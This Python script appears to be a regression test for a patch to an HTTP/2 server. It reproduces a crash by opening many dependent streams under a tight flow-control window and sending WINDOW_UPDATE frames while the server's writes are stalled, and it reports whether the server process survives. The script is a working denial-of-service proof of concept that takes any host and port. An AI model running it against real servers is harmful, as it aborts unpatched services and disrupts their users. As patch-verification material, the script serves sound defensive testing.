#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Defect 1: one HTTP/2 client aborts the process (patch 001).

With SETTINGS_INITIAL_WINDOW_SIZE equal to the length of the body, a stream's
window is 0 when its last byte has gone into the server's output buffer. A
WINDOW_UPDATE that arrives while that buffer is still being written trips
assert(!h2o_linklist_is_linked(...)) in update_stream_output_window.

The timing is forced: our socket takes a few kilobytes only and we do not read,
so that the server's write stays in flight for as long as we like."""

import argparse
import sys

from hyperframe.frame import WindowUpdateFrame

from rawh2 import Closed, Connection, Outcome

STREAMS_PER_BATCH = 90          # the server allows 100 at a time
BYTES_TO_FILL_SOCKETS = 128 * 1024
RESPONSE_HEAD_BYTES = 40        # at least, with its frame


def attack(host, port, path="/", body_len=4096, headers=None, attempts=3, timeout_s=15.0,
           tls=None):
    """GET `path`, whose body is exactly `body_len` bytes (1..60000) for `headers`,
    on many streams at once. Survived: a PING behind it all is answered, in every
    attempt, and no answered stream is short."""
    whole = 0
    for attempt in range(1, attempts + 1):
        try:
            whole += _attempt(host, port, path, body_len, headers, timeout_s, tls)
        except Closed as e:
            return Outcome(False, "connection lost in attempt %d (%s)" % (attempt, e),
                           {"attempts": attempt})
        except AssertionError as e:
            return Outcome(False, "attempt %d: %s" % (attempt, e), {"attempts": attempt})
    return Outcome(True, "%d attempts, %d whole responses" % (attempts, whole),
                   {"attempts": attempts, "responses": whole})


def _attempt(host, port, path, body_len, headers, timeout_s, tls):
    batches = 1 + BYTES_TO_FILL_SOCKETS // (STREAMS_PER_BATCH * (body_len + RESPONSE_HEAD_BYTES))
    with Connection(host, port, initial_window=body_len, small_socket=True, timeout_s=timeout_s,
                    tls=tls) as conn:
        next_id = 1
        for _ in range(batches):
            # each depends on the one before: sent one after the other, not in turns
            conn.send(*[conn.get_frame(i, path, headers, depends_on=i - 2 if i > 1 else 0)
                        for i in range(next_id, next_id + 2 * STREAMS_PER_BATCH, 2)])
            next_id += 2 * STREAMS_PER_BATCH
            conn.wait_quiet()
        # some of these streams are closed by now, some still wait for the socket,
        # and those in between are the ones that must not be touched
        conn.send(*[WindowUpdateFrame(i, window_increment=1) for i in range(1, next_id, 2)])
        conn.open_window()
        assert conn.ping(), "no answer to PING in %g s" % timeout_s
        conn.read_until(lambda: all(s.ended or s.reset for s in conn.streams.values()))
        done = [s for s in conn.streams.values() if s.ended and s.status == 200]
        short = [s.body_len for s in done if s.body_len != body_len]
        assert not short, "%d of %d bodies are not %d bytes: %s" % (
            len(short), len(done), body_len, short[:3])
        assert len(done) >= STREAMS_PER_BATCH, "only %d of %d answers are 200" % (
            len(done), len(conn.streams))
        return len(done)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--path", default="/")
    ap.add_argument("--body-len", type=int, default=4096)
    ap.add_argument("--header", action="append", default=[], metavar="NAME:VALUE")
    ap.add_argument("--attempts", type=int, default=3)
    args = ap.parse_args()
    outcome = attack(args.host, args.port, args.path, args.body_len,
                     dict(h.split(":", 1) for h in args.header), args.attempts)
    print(outcome)
    return 0 if outcome.survived else 1


if __name__ == "__main__":
    sys.exit(main())
